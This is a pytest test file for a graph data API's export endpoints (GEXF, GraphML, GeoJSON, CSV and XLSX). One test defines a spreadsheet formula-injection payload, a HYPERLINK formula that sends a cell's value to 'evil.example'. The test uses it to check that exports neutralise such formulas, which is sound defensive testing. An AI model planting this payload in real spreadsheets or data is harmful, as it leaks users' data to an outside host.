"""Exports parsed back by real parsers: networkx reads the GEXF (1.3, with time spells) and the
GraphML; the GeoJSON validates against the RFC 7946 shapes; the CSV zip reads back."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections import Counter

import httpx
import jsonschema
import networkx as nx
import pytest

from bench.generator import generate
from tests.api.conftest import LINKS_PER_ACTOR, N_ACTORS, SEED, data

pytestmark = pytest.mark.memory

POSITION = {"type": "array", "minItems": 2, "maxItems": 3, "items": {"type": "number"}}
GEOJSON = {
    "type": "object",
    "required": ["type", "features"],
    "properties": {
        "type": {"const": "FeatureCollection"},
        "features": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["type", "geometry", "properties"],
                "properties": {
                    "type": {"const": "Feature"},
                    "id": {"type": ["string", "number"]},
                    "properties": {"type": ["object", "null"]},
                    "geometry": {
                        "oneOf": [
                            {"type": "null"},
                            {
                                "type": "object",
                                "required": ["type", "coordinates"],
                                "properties": {"type": {"const": "Point"}, "coordinates": POSITION},
                            },
                            {
                                "type": "object",
                                "required": ["type", "coordinates"],
                                "properties": {
                                    "type": {"const": "LineString"},
                                    "coordinates": {
                                        "type": "array",
                                        "minItems": 2,
                                        "items": POSITION,
                                    },
                                },
                            },
                        ]
                    },
                },
            },
        },
    },
}


def _departement() -> str:
    actors = generate(N_ACTORS, LINKS_PER_ACTOR, SEED).actors()
    return str(Counter(a["departement"] for a in actors).most_common(1)[0][0])


def _get(client: httpx.Client, path: str) -> bytes:
    response = client.get(path)
    assert response.status_code == 200, response.text
    return response.content


def test_gexf_13_with_time_spells(client: httpx.Client) -> None:
    content = _get(client, f"/export/scope.gexf?scope=departement:{_departement()}")
    assert b'version="1.3"' in content and b"http://gexf.net/1.3" in content
    graph = nx.read_gexf(io.BytesIO(content))
    assert graph.number_of_nodes() > 10 and graph.number_of_edges() > 10
    spells = [d["spells"] for _, _, d in graph.edges(data=True) if "spells" in d]
    assert spells and all(start or end for start, end in (s[0] for s in spells))
    node = next(iter(graph.nodes(data=True)))[1]
    assert node["label"] and node["kind"]


def test_graphml_of_a_path(client: httpx.Client) -> None:
    content = _get(client, "/export/paths.graphml?from=net-mes&to=adv-csess&k=2")
    graph = nx.read_graphml(io.BytesIO(content))
    assert {"net-mes", "adv-csess"} <= set(graph.nodes)
    assert any(d.get("kind") == "SITS_ON" for _, _, d in graph.edges(data=True))
    assert graph.nodes["net-mes"]["path"] == 1


def test_geojson_validates(client: httpx.Client) -> None:
    content = _get(client, f"/export/scope.geojson?scope=departement:{_departement()}")
    collection = json.loads(content)
    jsonschema.validate(collection, GEOJSON)
    kinds = Counter(f["geometry"]["type"] for f in collection["features"] if f["geometry"])
    assert kinds["Point"] > 0 and kinds["LineString"] > 0
    lon, lat = collection["features"][0]["geometry"]["coordinates"]
    assert -180 <= lon <= 180 and -90 <= lat <= 90


def test_geojson_keeps_the_actors_without_a_position_with_a_null_geometry(
    client: httpx.Client,
) -> None:
    """docs/web-map.md: an actor without a position is exported with ``geometry: null`` (the
    national bodies, most of the movement's links end at one), not left out."""
    collection = json.loads(_get(client, "/export/neighbourhood.geojson?actor=net-mes&depth=1"))
    jsonschema.validate(collection, GEOJSON)
    nowhere = [f for f in collection["features"] if f["geometry"] is None]
    assert "net-mes" in {f["id"] for f in nowhere}
    assert all(f["properties"]["id"] == f["id"] for f in nowhere)


def test_csv_files_start_with_a_byte_order_mark(client: httpx.Client) -> None:
    content = _get(client, "/export/neighbourhood.csv?actor=net-mes&depth=1")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in ("nodes.csv", "links.csv"):
            raw = archive.read(name)
            assert raw.startswith(b"\xef\xbb\xbf"), name  # Excel then reads UTF-8
    nodes = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert nodes and "Id" in nodes[0]


def test_xlsx_export_opens_in_a_spreadsheet(client: httpx.Client) -> None:
    from openpyxl import load_workbook

    response = client.get("/export/neighbourhood.xlsx?actor=net-mes&depth=1")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert 'filename="maillage-neighbourhood.xlsx"' in response.headers["content-disposition"]
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    assert workbook.sheetnames == ["nodes", "links"]
    header, *rows = list(workbook["nodes"].iter_rows(values_only=True))
    assert header[:2] == ("Id", "Label")
    assert "net-mes" in {row[0] for row in rows}
    assert "Mouvement" in next(row[1] for row in rows if row[0] == "net-mes")


@pytest.mark.parametrize("what", ["clusters", "neighbourhood"])
def test_csv_zip_of_clusters_and_neighbourhood(client: httpx.Client, what: str) -> None:
    query = (
        f"scope=departement:{_departement()}&seed=1"
        if what == "clusters"
        else "actor=net-mes&depth=2"
    )
    content = _get(client, f"/export/{what}.csv?{query}")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        nodes = list(csv.DictReader(io.StringIO(archive.read("nodes.csv").decode("utf-8-sig"))))
        links = list(csv.DictReader(io.StringIO(archive.read("links.csv").decode("utf-8-sig"))))
    assert nodes and links
    ids = {n["Id"] for n in nodes}
    assert all(link["Source"] in ids and link["Target"] in ids for link in links)
    extra = "cluster" if what == "clusters" else "distance"
    assert all(n[extra] for n in nodes)


def test_export_errors_are_clear(client: httpx.Client) -> None:
    assert client.get("/export/scope.pdf").status_code == 404
    assert client.get("/export/everything.gexf").status_code == 404
    bad = client.get("/export/scope.gexf?scope=region:xx")
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid"
    missing = client.get("/export/paths.gexf?from=net-mes")
    assert missing.status_code == 400


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


def test_csv_export_escapes_a_formula_and_the_graph_keeps_it(
    client: httpx.Client, editor_token: str
) -> None:
    """A name beginning with ``=`` is written ``'=…`` in the CSV (OWASP's rule), while GraphQL
    still reads the stored value unchanged."""
    saved = data(
        client,
        """mutation($input: ActorInput!) { upsertActor(input: $input) {
          __typename ... on ActorSaved { actor { id } } ... on Problem { code message } } }""",
        {
            "input": {
                "id": "mai-formula0001",
                "kind": "ORGANISATION",
                "name": FORMULA,
                "commune": "31555",
                "source": {"system": "test", "key": "formula"},
            }
        },
        token=editor_token,
    )["upsertActor"]
    assert saved["__typename"] == "ActorSaved", saved
    content = _get(client, "/export/neighbourhood.csv?actor=mai-formula0001&depth=1")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        nodes = list(csv.DictReader(io.StringIO(archive.read("nodes.csv").decode("utf-8-sig"))))
    mine = [n for n in nodes if n["Id"] == "mai-formula0001"]
    assert mine and mine[0]["Label"] == "'" + FORMULA
    # in the workbook, the same name is a text cell: shown as it is, never run
    from openpyxl import load_workbook

    workbook = client.get("/export/neighbourhood.xlsx?actor=mai-formula0001&depth=1").content
    sheet = load_workbook(io.BytesIO(workbook))["nodes"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "mai-formula0001"]
    assert cells and cells[0].value == FORMULA and cells[0].data_type == "s"
    stored = data(client, '{ actor(id: "mai-formula0001") { name } }')["actor"]
    assert stored["name"] == FORMULA
